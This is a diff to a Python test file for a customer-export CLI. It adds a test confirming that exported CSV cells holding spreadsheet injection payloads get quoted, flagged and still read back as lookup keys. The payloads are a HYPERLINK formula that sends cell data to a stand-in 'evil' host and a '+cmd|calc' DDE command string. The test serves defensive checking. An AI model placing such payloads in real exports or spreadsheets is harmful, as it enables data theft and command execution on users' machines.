@@ -212,6 +212,8 @@ def test_lookups_pull_writes_each_tenants_lists_as_lookup_tables(
         "phone": "+905537801526",
         "email": "emine.celik7@example.com",
         "identity_number": "97682249676",
+        "worker_patient_data": "yes: keep private, delete once fixed",
+        "worker_quoted": "",
     }
     with (folder / "users.csv").open(encoding="utf-8") as fh:
         users = {r["name"]: r for r in csv.DictReader(fh)}
@@ -471,3 +473,49 @@ def test_a_bad_birth_date_or_gender_is_a_row_error_that_does_not_quote_it(
     assert "31.02" not in rows["R-1"]["error_message"]
     assert "Zorro" not in rows["R-2"]["error_message"]
     assert sb.stats()["customers_created"] == 0
+
+
+def test_pulled_customers_keep_formulas_quoted_say_they_are_patient_data_and_read_back(
+    tmp_path: Path, sb: Sandbox
+) -> None:
+    cfg = setup(tmp_path)
+    formula, command, number = '=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|calc", "@SUM(1+1)"
+    body = json.dumps({"first_name": formula, "last_name": command, "identity_number": number})
+    headers = {"Content-Type": "application/json", "Authorization": "Bearer sandbox-token-all",
+               "X-Tenant": "1", "Accept": "application/json"}  # fmt: skip
+    with urllib.request.urlopen(
+        urllib.request.Request(sb.base_url + "/v1/customers", body.encode(), headers)
+    ) as resp:
+        made = json.loads(resp.read())["data"]
+    out = tmp_path / "pulled"
+    pulled = run_cli(
+        "lookups", "pull", "-c", str(cfg), "--out", str(out), "--base-url", sb.base_url
+    )
+    assert pulled.exit_code == 0, pulled.output
+    customers = out / "tenant-1" / "customers.csv"
+    with customers.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    [row] = [r for r in rows if r["id"] == str(made["id"])]
+    assert (row["first_name"], row["last_name"]) == ("'" + formula, "'" + command)
+    assert row["identity_number"] == "'" + number
+    assert json.loads(row["worker_quoted"]) == ["first_name", "last_name", "identity_number"]
+    assert {r["worker_patient_data"] for r in rows} == {"yes: keep private, delete once fixed"}
+    # Read back as a [lookups.X] table, a quoted cell is the API's again: it finds its id.
+    text = cfg.read_text(encoding="utf-8").replace(
+        '[mapping.room_id]\ncolumn = "Oda"\nlookup = "api"',
+        '[mapping.room_id]\ncolumn = "Oda"\nlookup = "people"\n\n[lookups.people]\n'
+        f'file = "{customers}"\nkey = "identity_number"\nvalue = "id"',
+    )
+    cfg.write_text(text, encoding="utf-8")
+    with SAMPLE.open(encoding="utf-8", newline="") as fh:
+        head, first, *_ = list(csv.reader(fh, delimiter=";"))
+    first[head.index("Oda")] = number
+    export = tmp_path / "one.csv"
+    with export.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh, delimiter=";").writerows([head, first])
+    payloads = tmp_path / "payloads.jsonl"
+    checked = run_cli("validate", str(export), "-c", str(cfg), "--online", "--base-url",
+                      sb.base_url, "--payloads", str(payloads))  # fmt: skip
+    assert checked.exit_code == 0, checked.output
+    [line] = payloads.read_text(encoding="utf-8").splitlines()
+    assert json.loads(line)["body"]["room_id"] == made["id"]
